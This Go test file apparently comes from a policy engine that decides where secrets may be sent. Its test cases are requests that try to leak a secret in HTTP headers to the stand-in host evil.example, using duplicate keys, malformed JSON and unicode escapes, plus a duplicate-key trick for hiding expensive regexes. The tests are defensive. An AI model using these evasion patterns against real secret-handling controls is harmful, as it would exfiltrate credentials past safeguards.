package policy

import "testing"

// A secret in headers that the rules read otherwise than the check does is not sent to where its own rules
// do not let it go, not even by the rule all.
func TestEndpointCannotHideSecretsInHeaders(t *testing.T) {
	const policy = `
remote:
  checks: [all]
secrets:
  page: {value: x, allow: [{type: remote.http, url: 'https://www.example.com/**'}]}
`
	for _, headers := range []string{
		`{"A":"secret:page","B":null}`, `{"A":"secret:page","B":["x"]}`, `"{\"A\":\"x\",\"A\":\"secret:page\"}"`,
		`"{\"A\":\"secret:page\",\"B\":null}"`, `"{\"A\":\"secret:page\""`, `["A: secret:page"]`,
	} {
		testVerdicts(t, policy, []verdictCase{
			{`{"type":"remote.http","details":{"url":"https://evil.example/","headers":` + headers + `}}`, `remote.http headers`},
		})
	}
	testVerdicts(t, policy, []verdictCase{
		{`{"type":"remote.http","details":{"url":"https://evil.example/","headers":"{\"A\":\"\\u0073ecret:page\"}"}}`, `remote.http secret "page"`},
		{`{"type":"remote.http","details":{"url":"https://www.example.com/","headers":"{\"A\":\"secret:page\"}"}}`, ""},
		{`{"type":"remote.http","details":{"url":"https://evil.example/","headers":{"A":"x"}}}`, ""},
	})
}

// A name that comes twice hides no expensive expression.
func TestEndpointCannotHideExpressions(t *testing.T) {
	testVerdicts(t, "remote: {checks: [{type: remote.http, url: any}]}\n", []verdictCase{
		{`{"type":"remote.http","details":{"url":"https://evil.example/","body_matches":"{\"a\":\"(\",\"a\":\"x{999}x{999}x{999}\"}"}}`,
			`remote.http body_matches`},
		{`{"type":"remote.http","details":{"url":"https://evil.example/","body_matches":"{\"a\":\"(x{10}){5}\"}"}}`, ""},
	})
}
